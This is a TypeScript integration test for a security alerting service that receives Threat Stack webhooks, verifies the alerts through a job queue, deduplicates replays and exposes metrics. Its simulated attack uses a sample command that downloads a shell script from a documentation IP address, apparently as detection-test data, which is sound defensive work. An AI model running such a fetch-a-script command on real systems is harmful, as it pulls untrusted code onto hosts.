import pg from 'pg';
import { pino } from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type RunningService, startService } from '../../src/app/service.ts';
import { openVigil, type Vigil } from '../../src/app/vigil.ts';
import { webhookPayloadSchema } from '../../src/connectors/threatstack/webhook.ts';
import { testPostgresUrl } from '../../src/store/testing.ts';
import { openTestVigil, type TestVigil } from '../helpers/app.ts';
import { admin, type SimHarness, startSim } from '../helpers/threatstack.ts';
import { threatStackFields } from '../jobs/worker-harness.ts';

const CURL = 'curl -s http://203.0.113.7:8080/x.sh -o /tmp/x.sh';
const hour = 3_600_000;

/** Polls `read` (real time: the in-process queue polls every second) until `done`, for at most 20 s. */
async function eventually<T>(read: () => Promise<T>, done: (value: T) => boolean): Promise<T> {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const value = await read();
    if (done(value) || Date.now() > deadline) return value;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/**
 * `vigil serve` composed in process (`startService`: HTTP on 127.0.0.1:0 and the in-process job
 * runtime), with the Threat Stack simulator's webhook emitter pointed at it.
 */
describe('vigil serve receives Threat Stack webhooks end to end (SQLite)', () => {
  let h: SimHarness;
  let opened: TestVigil;
  let service: RunningService;

  beforeEach(async () => {
    h = await startSim({ agents: 10, cves: 2, findingsPerAgent: 1, alerts: 5 });
    opened = await openTestVigil('sqlite');
    service = await startService(opened.vigil, {
      listen: { host: '127.0.0.1', port: 0 },
      queue: { kind: 'in-process', ledger: opened.vigil.jobs.ledger },
      logger: pino({ level: 'silent' }),
      // No planner tick during the test: the integration, added after the start, is never due.
      tickMs: hour,
      concurrency: 2,
      leaseSeconds: 60,
      now: h.clock.now,
      vendorClient: { now: h.clock.now, sleep: async (ms) => h.clock.advance(ms) },
    });
  });

  afterEach(async () => {
    await service?.stop();
    await opened?.dispose();
    await h?.close();
  });

  it('stores the emitted alert, answers 202, verifies it as a job, and lists it verified in GET /api/v1/alerts', async () => {
    const { vigil } = opened;
    await vigil.integrations.add(
      {
        kind: 'threatstack',
        name: 'ts-prod',
        fields: threatStackFields(h.sim, 3600),
        apiKey: h.identity.apiKey,
      },
      { firstSync: false },
    );
    const hook = await vigil.webhooks.target('ts-prod', service.url);
    expect(hook.https).toBe(false);
    await admin(h.sim.url, 'PUT', '/_sim/webhooks/target', { url: hook.url });

    const agents = (await h.call('GET', '/v2/agents?status=online')).json<{
      agents: Array<{ id: string; hostname: string }>;
    }>();
    const agent = agents.agents[0];
    if (agent === undefined) throw new Error('no online agent');
    const action = await admin<{ alertId: string; alertVisibleAt: string }>(
      h.sim.url,
      'POST',
      '/_sim/actions',
      {
        technique: 'T1105',
        hostname: agent.hostname,
        commandLine: CURL,
      },
    );
    expect(action.status).toBe(201);
    h.clock.advance(Date.parse(action.json.alertVisibleAt) - h.clock.now() + 1000);
    await admin(h.sim.url, 'PUT', '/_sim/clock', { advanceMs: 0 });
    await h.sim.simulation.webhooks.settle();

    const { token } = await vigil.tokens.create({ name: 'reader', role: 'viewer' });
    const headers = { authorization: `Bearer ${token}` };
    const listed = await eventually(
      async () =>
        (await (await fetch(`${service.url}/api/v1/alerts`, { headers })).json()) as {
          alerts: Array<{ properties: Record<string, unknown> }>;
        },
      (body) => body.alerts.some((a) => a.properties.verification === 'verified'),
    );
    const alert = listed.alerts.find((a) => a.properties.id === action.json.alertId);
    expect(alert?.properties).toMatchObject({
      verified: true,
      verification: 'verified',
      source: 'webhook',
      agentId: agent.id,
    });

    const shown = (await (
      await fetch(`${service.url}/api/v1/alerts/${action.json.alertId}`, { headers })
    ).json()) as { events: Array<Record<string, unknown>> };
    expect(shown.events).toContainEqual(expect.objectContaining({ command: CURL, agentId: agent.id }));

    // A replay of the delivery is a duplicate; the metrics count both.
    const replay = await fetch(hook.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(
        webhookPayloadSchema.parse({
          alerts: [{ id: action.json.alertId, title: 't', created_at: h.clock.now(), severity: 1 }],
        }),
      ),
    });
    expect(replay.status).toBe(202);
    expect(await replay.json()).toEqual({ accepted: 0, duplicates: 1 });
    const metrics = await (await fetch(`${service.url}/metrics`, { headers })).text();
    expect(metrics).toContain('vigil_webhook_alerts_total{result="accepted"} 1');
    expect(metrics).toContain('vigil_webhook_alerts_total{result="duplicate"} 1');
    expect((await fetch(`${service.url}/readyz`)).status).toBe(200);
  });
});

describe.skipIf(testPostgresUrl === undefined)('two vigil serve on one PostgreSQL database', () => {
  let h: SimHarness;
  let opened: TestVigil;
  let second: Vigil | undefined;
  const services: RunningService[] = [];
  let queueSchema = '';

  afterEach(async () => {
    for (const service of services.splice(0)) await service.stop();
    await second?.close();
    await opened?.dispose();
    await h?.close();
    const client = new pg.Client({ connectionString: testPostgresUrl });
    await client.connect();
    await client.query(`DROP SCHEMA IF EXISTS "${queueSchema}" CASCADE`);
    await client.end();
  });

  it('both answer, and an alert received by one is verified through the shared pg-boss queue', async () => {
    h = await startSim({ agents: 5, cves: 2, findingsPerAgent: 1, alerts: 3 });
    opened = await openTestVigil('postgres');
    const { settings } = opened.vigil;
    second = await openVigil(settings);
    queueSchema = `${settings.pgSchema}_queue`;
    for (const vigil of [opened.vigil, second]) {
      services.push(
        await startService(vigil, {
          listen: { host: '127.0.0.1', port: 0 },
          queue: { kind: 'pg-boss', url: settings.database, schema: queueSchema },
          logger: pino({ level: 'silent' }),
          tickMs: hour,
          concurrency: 2,
          leaseSeconds: 30,
          vendorClient: { now: h.clock.now, sleep: async (ms) => h.clock.advance(ms) },
        }),
      );
    }
    const [a, b] = services;
    if (a === undefined || b === undefined) throw new Error('two services expected');
    await opened.vigil.integrations.add(
      {
        kind: 'threatstack',
        name: 'ts-prod',
        fields: threatStackFields(h.sim, 3600),
        apiKey: h.identity.apiKey,
      },
      { firstSync: false },
    );
    const known = (await h.call('GET', '/v2/alerts?status=active')).json<{
      alerts: Array<{ id: string; title: string }>;
    }>();
    const vendorAlert = known.alerts[0];
    if (vendorAlert === undefined) throw new Error('the simulator has no alert');
    const hook = await second.webhooks.target('ts-prod', a.url);
    const delivered = await fetch(hook.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        alerts: [
          { id: vendorAlert.id, title: vendorAlert.title, created_at: String(h.clock.now()), severity: '2' },
        ],
      }),
    });
    expect(delivered.status).toBe(202);

    const { token } = await opened.vigil.tokens.create({ name: 'reader', role: 'viewer' });
    const headers = { authorization: `Bearer ${token}` };
    const shown = await eventually(
      async () =>
        (await (await fetch(`${b.url}/api/v1/alerts/${vendorAlert.id}`, { headers })).json()) as {
          alert?: { properties: Record<string, unknown> };
        },
      (body) => body.alert?.properties.verification === 'verified',
    );
    expect(shown.alert?.properties).toMatchObject({ id: vendorAlert.id, verified: true, source: 'webhook' });
    for (const service of [a, b]) {
      expect((await fetch(`${service.url}/readyz`)).status).toBe(200);
      const listed = (await (await fetch(`${service.url}/api/v1/alerts`, { headers })).json()) as {
        alerts: unknown[];
      };
      expect(listed.alerts).toHaveLength(1);
      const metrics = await (await fetch(`${service.url}/metrics`, { headers })).text();
      expect(metrics).toMatch(/^vigil_job_queue_depth \d+$/m);
    }
  });
});
